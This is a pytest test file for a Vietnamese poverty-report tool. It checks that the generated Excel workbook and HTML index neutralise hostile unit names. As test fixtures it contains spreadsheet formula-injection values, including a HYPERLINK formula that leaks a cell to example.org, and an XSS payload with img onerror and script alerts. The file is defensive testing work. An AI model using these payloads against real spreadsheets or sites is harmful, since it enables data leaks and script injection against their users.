"""The index of a report set: names from data shown as typed, only its own scripts run, a workbook without formulas."""

from __future__ import annotations

import base64
import hashlib
import json
import numbers
import re

import pytest
from openpyxl import load_workbook

from povanalysis.common.safe import FORMULA_PREFIXES
from povanalysis.reports import index, prepare

#: Cells a spreadsheet program would evaluate: a link that leaks, a sum, a DDE call, a tab, a carriage return.
FORMULAS = ('=HYPERLINK("http://example.org/?x="&A1,"xem")', "+1+2", "-3+4", "@SUM(A1:A2)", "\tTày", "\rNùng")

HOSTILE = '<img src=x onerror="alert(1)"> & <script>alert(2)</script>'


@pytest.fixture
def hostile_figures(prepared, monkeypatch):
    """Key figures whose first units are named with formulas, and the first unit's old area too."""
    real = prepare.key_figures

    def key_figures(*, review_year, **kwargs):
        frame = real(review_year=review_year, **kwargs).copy()
        frame.loc[frame.index[: len(FORMULAS)], "name"] = list(FORMULAS)
        frame.loc[frame.index[0], "old_area"] = "=1+1"
        frame.loc[frame.index[1], "change_points"] = -1.25  # a figure the test data hide everywhere
        return frame

    monkeypatch.setattr(prepare, "key_figures", key_figures)


def test_key_figures_workbook_holds_no_formula(hostile_figures, tmp_path):
    path = index.write_xlsx(tmp_path / "key-figures.xlsx", review_year=2025)
    wb = load_workbook(path)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert cells and not [c.coordinate for c in cells if c.data_type == "f"]
    ws = wb.worksheets[0]
    header = [c.value for c in ws[1]]
    names = [row[header.index("Xã, phường")] for row in ws.iter_rows(min_row=2, values_only=True)]
    # shown as text, with the apostrophe (XML reads a carriage return back as a line feed)
    assert names[: len(FORMULAS)] == ["'" + f.replace("\r", "\n") for f in FORMULAS]
    assert ws.cell(row=2, column=header.index("Địa bàn cũ") + 1).value == "'=1+1"
    # numbers stay numbers, negative ones too
    change = next(h for h in header if h.startswith("Thay đổi"))
    values = [r[header.index(change)] for r in ws.iter_rows(min_row=2, values_only=True)]
    assert any(isinstance(v, numbers.Number) and v < 0 for v in values)
    assert all(v is None or v == "–" or isinstance(v, numbers.Number) for v in values)
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not [t for t in texts if t.startswith(FORMULA_PREFIXES)]


def _policy_scripts(page: str) -> list[str]:
    policy = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">', page).group(1)
    policy = policy.replace("&#x27;", "'")
    return next(p.split()[1:] for p in policy.split(";") if p.split()[:1] == ["script-src"])


def test_index_shows_names_as_typed_and_runs_only_its_own_scripts(prepared, tmp_path, monkeypatch):
    real = prepare.key_figures
    tables = prepare.shared_tables

    def key_figures(*, review_year, **kwargs):
        frame = real(review_year=review_year, **kwargs).copy()
        frame.loc[frame.index[0], "name"] = HOSTILE
        return frame

    def shared_tables():
        t, manifest = tables()
        t = dict(t)
        b = t["boundaries"].copy()
        b.loc[b["commune_code"] == "01840", "name"] = HOSTILE
        t["boundaries"] = b
        return t, manifest

    monkeypatch.setattr(prepare, "key_figures", key_figures)
    monkeypatch.setattr(prepare, "shared_tables", shared_tables)
    (tmp_path / "province").mkdir()
    (tmp_path / "province" / "01-x.html").write_text("<p>x</p>", encoding="utf-8")
    stamp = {"digest": "0", "title": HOSTILE}
    (tmp_path / "province" / "01-x.stamp.json").write_text(json.dumps(stamp), encoding="utf-8")
    path, status = index.build_index(tmp_path, review_year=2025, force=True)
    page = path.read_text(encoding="utf-8")
    body = page.split("<body>", 1)[1]
    without_scripts = re.sub(r"<script\b.*?</script>", "", body, flags=re.S)
    assert "<img" not in without_scripts and "<script" not in without_scripts
    assert without_scripts.count("&lt;img src=x onerror=&quot;alert(1)&quot;&gt; &amp; &lt;script&gt;") >= 2
    # the map's hover text holds the name escaped (plotly decodes entities), never as markup
    assert "\\u003cimg" not in page and "&lt;img src=x" in page.split("province-map", 1)[1]
    # every inline script of the page is the index's own, and the policy allows exactly those
    inline = re.findall(r"<script>(.*?)</script>", page, re.S)
    hashes = {"'sha256-" + base64.b64encode(hashlib.sha256(s.encode()).digest()).decode() + "'" for s in inline}
    assert len(inline) >= 2 and set(_policy_scripts(page)) == {"'self'", *hashes}


def test_workbook_sheets_are_polished_and_more_can_be_added(prepared, tmp_path):
    import pandas as pd

    from povanalysis.reports.readable import Column, readable

    extra = {
        "Tín dụng": pd.DataFrame(
            {"Mã": ["01840", "=1+1"], "Số hộ vay": [12, "< 10"], "Số tiền (triệu đồng)": [1250.5, "–"]}
        )
    }
    extra["Đọc"] = readable(
        pd.DataFrame({"code": ["01840", "05665"], "rate": [0.22349, 0.05], "n": [1200, 9], "eff": [0.0412, -0.3]}),
        [
            Column("code", "Mã", "Code", "code"),
            Column("rate", "Tỷ lệ (%)", "Rate (%)", "percent", 1),
            Column("n", "Hộ (hộ)", "Households", "count"),
            Column("eff", "Tác động (điểm %)", "Effect (points)", "points", 2),
        ],
    ).sheet
    path = index.write_xlsx(tmp_path / "k.xlsx", review_year=2025, extra_sheets=extra)
    wb = load_workbook(path)
    # a readable table's sheet keeps the decimals its page shows
    assert [c.number_format for c in wb["Đọc"][2]] == ["@", "#,##0.0", "#,##0", "+0.00;-0.00;0.00"]
    assert [c.value for c in wb["Đọc"][2]] == ["01840", 22.3, 1200, 0.04]
    del wb["Đọc"]
    assert wb.sheetnames == ["Số liệu chính", "Tín dụng", "Ghi chú"]
    for ws in wb.worksheets[:2]:
        header = [c.value for c in ws[1]]
        last = f"{chr(ord('A') + len(header) - 1)}{ws.max_row}"
        assert ws.auto_filter.ref == f"A1:{last}"
        assert ws.freeze_panes in ("A2", "C2") and all(c.font.b for c in ws[1])
        for j, name in enumerate(header, start=1):
            column = [ws.cell(row=r, column=j).value for r in range(1, ws.max_row + 1)]
            width = ws.column_dimensions[chr(ord("A") + j - 1)].width
            assert width >= min(60, max(len(str(v)) for v in column if v is not None)), name
        codes = [ws.cell(row=r, column=1) for r in range(2, ws.max_row + 1)]
        assert all(c.data_type == "s" and c.number_format == "@" for c in codes)
    main = wb["Số liệu chính"]
    header = [c.value for c in main[1]]
    poor = [r[header.index("Số hộ nghèo")] for r in main.iter_rows(min_row=2, values_only=True)]
    assert "< 10" in poor and all(isinstance(v, (int, float)) or v in ("< 10", "–") for v in poor)
    credit = list(wb["Tín dụng"].iter_rows(min_row=2, values_only=True))
    assert credit == [("01840", 12, 1250.5), ("'=1+1", "< 10", "–")]
    notes = " ".join(str(c.value) for c in wb["Ghi chú"]["A"])
    assert "được ẩn để bảo vệ thông tin hộ gia đình" in notes and "kiểm duyệt" not in notes
    with pytest.raises(ValueError, match="sheet title 'a/b' must be 1 to 31 characters"):
        index.write_xlsx(tmp_path / "x.xlsx", review_year=2025, extra_sheets={"a/b": extra["Tín dụng"]})
    with pytest.raises(ValueError, match="used twice"):
        index.write_xlsx(tmp_path / "x.xlsx", review_year=2025, extra_sheets={"số liệu chính": extra["Tín dụng"]})


def test_index_names_a_unit_once_and_prints_the_rule_note(prepared, tmp_path):
    path, _ = index.build_index(tmp_path, review_year=2025, force=True)
    page = path.read_text(encoding="utf-8")
    assert "Phường Đức Xuân" in page and "Phường Đức Xuân</a> <span" not in page
    assert "Phường Đức Xuân <span" not in page
    assert "Ô «&lt; 10»: dưới 10 hộ, được ẩn để bảo vệ thông tin hộ gia đình." in page
